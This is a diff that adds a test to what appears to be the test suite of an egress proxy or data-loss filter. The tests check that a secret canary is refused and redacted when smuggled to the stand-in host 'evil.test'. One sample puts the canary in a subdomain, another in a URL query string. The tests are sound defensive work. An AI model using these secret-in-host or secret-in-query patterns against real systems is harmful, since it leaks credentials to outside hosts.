@@ -148,6 +148,14 @@ def test_unrouted_tunnel_never_dials_on_its_own(env: Env) -> None:
     assert (rec["kind"], rec["rule"], rec["host"]) == ("connection", "connect", "evil.test")
 
 
+def test_secret_in_a_host_without_route_is_refused_at_connect(env: Env) -> None:
+    """A host name carrying a secret is refused at CONNECT and audited as the canary it
+    holds (redacted), not given a tunnel like any other unlisted host."""
+    c = _connect(env, f"{CANARY}.evil.test")
+    denied(c, "canary")
+    assert CANARY not in env.audit_path.read_text()
+
+
 def test_secret_in_a_request_without_route_is_audited_as_dlp(env: Env) -> None:
     c = _connect(env, "evil.test")
     f = flow(host="evil.test", path=f"/x?k={CANARY}")
